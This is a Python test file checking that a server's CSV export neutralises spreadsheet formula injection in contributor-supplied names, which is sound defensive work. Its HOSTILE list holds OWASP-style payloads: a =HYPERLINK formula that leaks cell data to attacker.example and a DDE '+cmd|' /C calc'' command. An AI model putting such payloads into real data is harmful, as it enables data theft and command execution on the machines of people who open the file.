"""CSV exports are safe to open in a spreadsheet.

The attack: a contributor names the chip ``=HYPERLINK(...)``, the client ``+cmd|...``, or
puts CR/LF in a name so that a physical line of the CSV starts with ``=1+1`` (ingest now
refuses control characters in names, but older or imported rows may hold them). Every text
field of a submission is the contributor's, and the export is meant for spreadsheets.
Before the fix such cells were written as they came (a naive line-based reader, or a
spreadsheet that splits on line breaks, saw a line starting ``=1+1``).

After it: every text cell a spreadsheet would evaluate starts with ``'`` (OWASP), no value
carries a line break, each physical line starts with a submission id, and numbers stay
numbers. JSON Lines keeps the exact values (JSON has no formulas and escapes line breaks).
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import update

from specserver.store import exporting, tables
from specserver.store.exportformat import FORMULA_STARTS, spreadsheet_text
from specserver.store.exporting import EXPORT_NAMES
from specserver.store.queries import Filters
from tests.reliability.apps import app_on
from tests.reliability.hostile import dict_bytes, payload_dict, signed, signing_key
from tests.support.inprocess import InProcessClient

UUID = re.compile(r"^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12},")
# (chip, client name, engine backend) of hostile contributors: the payloads of OWASP's
# examples, then a full-width equals sign, a formula after spaces and a bare minus.
HOSTILE = [
    ('=HYPERLINK("http://attacker.example/?"&A1,"Apple M3 Pro")', "+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\uff1d1+1", "  =1+1", "-2+3"),
]
# Line breaks and tabs: ingest now refuses control characters in names (names_printable),
# but rows stored before that rule or imported keep them, so they are written to the store
# directly, over an honest submission's values.
STORED = ("Apple M3\n=1+1", "specsubmit\r\n=2+2", "\t=3+3\r=4+4")
NUMERIC = ("memory_gb", "trials", "median_tps", "speedup_tps", "median_wall_s")


def _hostile_body(seed: int, chip: str, client: str, backend: str) -> bytes:
    data = payload_dict(seed)
    data["fingerprint"]["chip"] = chip
    data["client"]["name"] = client
    data["engine"]["backend"] = backend
    return signed(dict_bytes(data), signing_key(seed))


def _export(client: InProcessClient, fmt: str) -> Any:
    response = client.get("/v1/export", params={"format": fmt})
    assert response.status_code == 200, response.text
    return response


def test_hostile_text_cells_are_inert_in_the_csv(tmp_path: Path) -> None:
    with app_on("duckdb", tmp_path) as app, InProcessClient(app) as client:
        for seed, fields in enumerate(HOSTILE, 100):
            answer = client.post("/v1/submissions", content=_hostile_body(seed, *fields))
            assert answer.status_code == 201, answer.text
        answer = client.post("/v1/submissions", content=_hostile_body(120, "Apple M3", "s", "m"))
        assert answer.status_code == 201, answer.text
        stored_id = answer.json()["submission_id"]
        app.state.store.write(lambda conn: conn.execute(
            update(tables.submissions)
            .where(tables.submissions.c.submission_id == stored_id)
            .values(chip=STORED[0], client_name=STORED[1], backend=STORED[2])))
        text = _export(client, "csv").text
        lines = _export(client, "jsonl").text.splitlines()
        # The API makes CSV and JSON Lines from a Parquet file in a child process; the
        # bytes are those written straight from the store (the CLI's path).
        with app.state.store.engine.connect() as conn:
            for fmt, sent in (("csv", text), ("jsonl", "\n".join(lines) + "\n")):
                exporting.write_export(conn, Filters(), fmt, tmp_path / f"direct.{fmt}")
                assert (tmp_path / f"direct.{fmt}").read_bytes() == sent.encode()

    physical = text.split("\n")
    assert physical[0] == ",".join(EXPORT_NAMES) and physical[-1] == ""
    for line in physical[1:-1]:  # one record per line, each led by its submission id
        assert UUID.match(line), line
    assert "\r" not in text

    records = list(csv.DictReader(io.StringIO(text)))
    assert len(records) == (len(HOSTILE) + 1) * 3
    for record in records:
        for name, cell in record.items():
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (name, cell)
        for name in NUMERIC:
            if record[name]:
                float(record[name])  # a number, not a quoted or prefixed text
    written = {(r["chip"], r["client_name"], r["backend"]) for r in records}
    assert written == {
        ("'" + HOSTILE[0][0], "'" + HOSTILE[0][1], "'" + HOSTILE[0][2]),
        ("'=1+1", "'=1+1", "'-2+3"),  # ingest stored them NFKC-folded and trimmed
        ("Apple M3 =1+1", "specsubmit  =2+2", "'\t=3+3 =4+4"),
    }

    # JSON Lines: the exact values, each record on its one line.
    exact = {(r["chip"], r["client_name"], r["backend"]) for r in map(json.loads, lines)}
    assert exact == {HOSTILE[0], ("=1+1", "=1+1", "-2+3"), STORED}


@given(st.text())
def test_no_text_cell_starts_a_formula_or_a_line(text: str) -> None:
    cell = spreadsheet_text(text)
    assert not cell.lstrip(" ").startswith(FORMULA_STARTS)
    assert "\n" not in cell and "\r" not in cell
    breaks = set("\r\n\u2028\u2029\x0b\x0c\x85")
    if not set(text) & breaks:
        plain = not text.lstrip(" ").startswith(FORMULA_STARTS)
        assert cell == (text if plain else "'" + text)  # ordinary text is left alone


@pytest.mark.parametrize("value", ["-1.5", "Apple M3 Pro", "0.12.8", "qwen3:14b"])
def test_ordinary_values_are_unchanged_or_only_prefixed(value: str) -> None:
    cell = spreadsheet_text(value)
    assert cell == (("'" + value) if value.startswith("-") else value)


def test_the_export_child_imports_neither_the_models_nor_sqlalchemy() -> None:
    """The child process of every CSV/JSON Lines export (store/exportformat.py) starts
    without the server's imports: ~0.4 s of CPU per export file, paid again each time a
    stalled client's slot is re-filled (BENCHMARKS.md, "Stalled exports")."""
    import subprocess
    import sys

    heavy = ("sqlalchemy", "pydantic", "fastapi", "specschema", "specserver.store.queries")
    probe = ("import sys, specserver.store.exportformat as f, duckdb; "
             f"print([m for m in {heavy!r} if m in sys.modules])")
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True,
                          check=True)
    assert done.stdout.strip() == "[]", done.stdout
